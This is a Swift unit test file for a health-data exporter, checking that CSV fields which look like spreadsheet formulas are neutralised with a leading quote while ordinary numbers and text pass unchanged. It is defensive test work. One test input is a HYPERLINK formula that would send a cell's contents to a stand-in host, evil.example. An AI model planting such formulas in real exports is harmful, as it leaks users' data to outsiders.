import HealthModel
import Testing

@testable import HealthETL

/// Export text never becomes a spreadsheet formula (Pipelines/docs/outputs.md, "Values"); the whole run
/// opened in a real spreadsheet program is `Tests/EndToEnd/test_csv_injection.py`.
@Suite struct CSVFormulaGuardTests {
  private func field(_ text: String) -> String {
    var out: [UInt8] = []
    CSVField.append(text, to: &out)
    return String(decoding: out, as: UTF8.self)
  }

  @Test func textThatStartsLikeAFormulaGetsALeadingQuote() {
    #expect(field("=1+1") == "'=1+1")
    #expect(field("+1+1") == "'+1+1")
    #expect(field("-1+1") == "'-1+1")
    #expect(field("@SUM(A1)") == "'@SUM(A1)")
    #expect(field("\t=1") == "'\t=1")
    // A comma or a carriage return still quotes the field; the guard goes inside the quotes.
    #expect(
      field("=HYPERLINK(\"http://evil.example/?d=\"&B2, \"Details\")")
        == "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&B2, \"\"Details\"\")\"")
    #expect(field("\r=1") == "\"'\r=1\"")
  }

  @Test func plainNumbersAndOrdinaryTextAreLeftAsTheyAre() {
    for text in ["-3.5", "+1e-05", "-.5", "-7", "+12.", "Apple Watch", "1+1", "", "a=b", "'quoted"] {
      #expect(field(text) == text)
    }
    // Signs that only look like numbers are guarded.
    for text in ["-", "+", "-.", "-1e", "-1e+", "-1-1", "-1 ", "- 1", "-1e5x", "+inf", "-nan"] {
      #expect(field(text) == "'" + text)
    }
  }

  @Test func everyRowEncoderTextColumnIsGuardedInCSVButNotInJSON() {
    let columns = [Column.text("source", "where the sample came from")]
    var csv = RowEncoder(columns: columns, format: .csv, zone: .utc)
    var json = RowEncoder(columns: columns, format: .ndjson, zone: .utc)
    var csvLine: [UInt8] = []
    var jsonLine: [UInt8] = []
    csv.encode([.text("=1+1")][...], to: &csvLine)
    json.encode([.text("=1+1")][...], to: &jsonLine)
    #expect(String(decoding: csvLine, as: UTF8.self) == "'=1+1\n")
    #expect(String(decoding: jsonLine, as: UTF8.self) == "{\"source\": \"=1+1\"}\n")
  }
}
